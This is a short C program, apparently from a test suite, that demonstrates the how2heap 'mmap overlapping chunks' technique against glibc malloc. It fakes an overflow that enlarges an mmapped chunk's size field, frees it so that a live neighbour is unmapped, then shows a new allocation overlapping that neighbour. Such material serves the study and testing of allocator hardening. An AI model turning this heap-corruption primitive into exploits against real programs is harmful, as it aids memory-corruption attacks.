/* Technique: mmap overlapping chunks (how2heap mmap_overlapping_chunks).

   Goal: an overlapping allocation -- a new mmapped block covers a block
   the program still holds.

   How: three blocks above the mmap threshold are mapped one below the
   other (top_ptr, then mmap_chunk_2, then mmap_chunk_3 lowest).  An
   overflow rewrites mmap_chunk_3's size (with IS_MMAPPED) to cover
   mmap_chunk_2 as well; free (mmap_chunk_3) trusts it and munmaps both.
   A larger request is then mapped over the hole and overlaps the
   still-live mmap_chunk_2.  */
#include "attack.h"

int
main (void)
{
  attack_init ("mmap_overlapping_chunks: mmapped chunk size grown, munmap takes its neighbour");
  malloc (0x10);			/* set up the heap */
  char *top_ptr = malloc (0x100000);
  char *c2 = malloc (0x100000);
  char *c3 = malloc (0x100000);
  /* In glibc's layout an mmapped block starts 0x10 bytes into its
     page, after the header; a page-aligned block has no header to read
     (and the page before it may be unmapped).  */
  if (((uintptr_t) top_ptr | (uintptr_t) c2 | (uintptr_t) c3) % 0x1000 == 0)
    no_effect ("the blocks %p %p %p have no in-band header", top_ptr, c2, c3);
  say ("mmapped: %p %p %p; sizes %#zx %#zx %#zx", top_ptr, c2, c3,
       SIZE (top_ptr), SIZE (c2), SIZE (c3));
  if (!(SIZE (c3) & IS_MMAPPED) || c3 >= c2 || (char *) CHUNK (c3) + (SIZE (c3) & ~7UL) != (char *) CHUNK (c2))
    no_effect ("the blocks are not adjacent mmapped chunks");
  c2[0] = 'A';
  /* The overflow: mmap_chunk_3 now spans mmap_chunk_2 too.  */
  SIZE (c3) = (SIZE (c3) & ~7UL) + (SIZE (c2) & ~7UL) + IS_MMAPPED;
  free (c3);
  char *c4 = malloc (0x300000);
  say ("malloc (0x300000) = %p", c4);
  if (c4 && overlaps (c4, 0x300000, c2, 0x100000)
      && aliases ((unsigned char *) c4 + (c2 - c4), (unsigned char *) c2))
    reached ("the new block %p [0x300000] overlaps the live %p", c4, c2);
  no_effect ("the new block %p does not overlap %p", c4, c2);
}
